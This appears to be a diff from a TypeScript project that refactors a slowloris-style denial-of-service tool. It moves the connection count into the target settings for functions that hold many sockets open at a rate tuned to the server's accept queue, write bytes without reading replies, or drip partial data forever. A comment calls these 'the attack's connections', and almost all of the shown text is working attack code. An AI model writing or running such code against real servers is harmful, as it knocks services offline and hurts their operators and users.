@@ -7,10 +7,9 @@ const PAUSE_MS = 20;
 /** So that the queue of connections to be accepted, of 511, doesn't overflow: the kernel would forget some of them. */
 const OPENED_PER_MS = 5;
 
-/** Keeps so many connections open. @returns those that are open */
+/** Keeps the attack's connections open. @returns those that are open */
 export function keepOpen(
-  { host, port }: Target,
-  connections: number,
+  { host, port, connections }: Target,
   onConnect: (socket: Socket) => void,
 ): ReadonlySet<Socket> {
   const sockets = new Set<Socket>();
@@ -36,8 +35,8 @@ export function keepOpen(
 }
 
 /** Writes the bytes on each connection, and reads no answer. */
-export function writeUnread(target: Target, connections: number, bytes: string): void {
-  keepOpen(target, connections, (socket) => {
+export function writeUnread(target: Target, bytes: string): void {
+  keepOpen(target, (socket) => {
     socket.pause();
     socket.write(bytes);
   });
@@ -46,10 +45,9 @@ export function writeUnread(target: Target, connections: number, bytes: string):
 /** Writes the beginning on each connection, and then a piece now and then, for ever. */
 export function drip(
   target: Target,
-  connections: number,
   { beginning, piece, interval }: { beginning: string; piece: string; interval: number },
 ): void {
-  keepOpen(target, connections, (socket) => {
+  keepOpen(target, (socket) => {
     socket.resume();
     socket.write(beginning);
     const dripping = setInterval(() => socket.write(piece), interval);
